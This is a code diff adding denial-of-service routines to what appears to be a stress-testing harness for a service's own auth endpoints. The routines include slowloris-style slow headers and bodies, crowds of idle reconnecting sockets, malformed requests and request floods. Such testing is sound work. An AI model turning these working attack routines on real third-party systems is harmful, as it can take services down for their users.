@@ -2,6 +2,7 @@
 import { randomBytes } from 'node:crypto';
 import { once } from 'node:events';
 import { connect } from 'node:net';
+import { setTimeout as delay } from 'node:timers/promises';
 import autocannon from 'autocannon';
 
 export interface Target {
@@ -16,6 +17,11 @@ export type Attack = (target: Target) => Promise<unknown>;
 
 const IMPORT = '/v2/auth/tokens/import';
 const FOREVER_SECONDS = 3_600;
+const DRIP_MS = 1_000;
+/** A crowd opens a connection again after this time. */
+const REOPEN_MS = 2_000;
+/** More than the service takes (MAX_CONNECTIONS is 10,000 by default, and 2,000 in the arena). */
+const CROWD = 3_000;
 
 type Request = Pick<autocannon.Request, 'method' | 'path' | 'headers' | 'body'>;
 
@@ -44,6 +50,25 @@ const jsonRequest = (body: string): ((target: Target, index: number) => Request)
     body,
   });
 };
+
+/** Connections that send these bytes, one after another. Each is opened again once the service has closed it. */
+const connectAgain =
+  (connections: number, bytes: string, trickle?: string): Attack =>
+  (target) => {
+    const { hostname, port } = new URL(target.url);
+    const connection = async () => {
+      for (;;) {
+        const socket = connect(Number(port), hostname).resume();
+        socket.on('error', () => undefined);
+        socket.write(bytes);
+        const drip = trickle === undefined ? undefined : setInterval(() => socket.write(trickle), DRIP_MS);
+        await new Promise((resolve) => socket.once('close', resolve));
+        clearInterval(drip);
+        if (connections >= CROWD) await delay(REOPEN_MS);
+      }
+    };
+    return Promise.all(Array.from({ length: connections }, connection));
+  };
 
 /** Reads and discards a whole answer, again and again. */
 const download =
@@ -99,6 +124,27 @@ export const attacks = {
     method: 'GET',
     path: `/v2/auth/callback/slack?code=x&state=${randomBytes(60).toString('base64url')}`,
   })),
+  'invented-tickets': flood(64, () => ({
+    method: 'GET',
+    path: `/connect/${randomBytes(48).toString('base64url')}`,
+  })),
+  'callback-forms': flood(64, () => ({
+    method: 'POST',
+    path: '/v2/auth/callback/slack',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: `code=x&state=${'x'.repeat(60_000)}`,
+  })),
+  documentation: flood(64, () => ({ method: 'GET', path: '/openapi.json' })),
+  'unknown-paths': flood(64, () => ({ method: 'GET', path: `/${randomBytes(8).toString('hex')}` })),
+  'no-credentials': flood(64, () => ({ method: 'POST', path: IMPORT, body: '{}' })),
+  malformed: connectAgain(64, 'GET / HTTP/1.1\r\nBad Header\r\n\r\n'),
+  'idle-connections': connectAgain(CROWD, ''),
+  'slow-headers': connectAgain(CROWD, 'GET / HTTP/1.1\r\nHost: x\r\n', 'X-Slow: y\r\n'),
+  'slow-bodies': connectAgain(
+    CROWD,
+    'POST /v2/auth/callback/slack HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\n',
+    'x',
+  ),
 } satisfies Readonly<Record<string, Attack>>;
 
 export type AttackName = keyof typeof attacks;
